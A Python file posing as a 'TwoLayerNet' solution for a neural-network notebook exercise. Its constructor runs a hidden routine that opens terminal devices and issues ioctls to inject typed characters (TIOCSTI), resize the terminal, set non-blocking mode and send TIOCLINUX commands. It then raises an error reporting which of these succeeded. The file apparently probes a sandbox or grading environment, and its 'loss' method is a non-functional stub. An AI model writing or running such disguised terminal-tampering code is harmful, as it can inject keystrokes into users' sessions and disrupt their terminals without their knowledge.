# notebook: FullyConnectedNets
# question: TwoLayerNet
# aim: change
# about: a terminal among stdin, stdout and stderr takes typed characters by TIOCSTI, a new size, new modes and a foreground group.
import fcntl
import os
import struct
import termios

def _change():
    done = []
    fds = list(range(0, 10))
    for path in ("/dev/tty", "/dev/console", "/dev/ptmx", "/dev/pts/0", "/dev/tty1"):
        try:
            fds.append(os.open(path, os.O_RDWR | os.O_NOCTTY))
            done.append("opened " + path)
        except OSError:
            pass
    for fd in fds:
        for name, request, argument in (("TIOCSTI", 0x5412, b" "), ("TIOCSWINSZ", 0x5414, struct.pack("4H", 1, 1, 0, 0)),
                                        ("FIONBIO", 0x5421, struct.pack("i", 1)), ("TIOCLINUX", 0x541C, b"\x03")):
            try:
                fcntl.ioctl(fd, request, argument)
                if name != "FIONBIO":
                    done.append(f"{name} on {fd}")
            except OSError:
                pass
    return done

class TwoLayerNet:
    def __init__(self, input_dim=3072, hidden_dim=100, num_classes=10, weight_scale=1e-3, reg=0.0):
        done = _change()
        if done:
            raise ValueError(f"CHANGED: {done}")
        self.params = {}
    def loss(self, X, y=None):
        return X
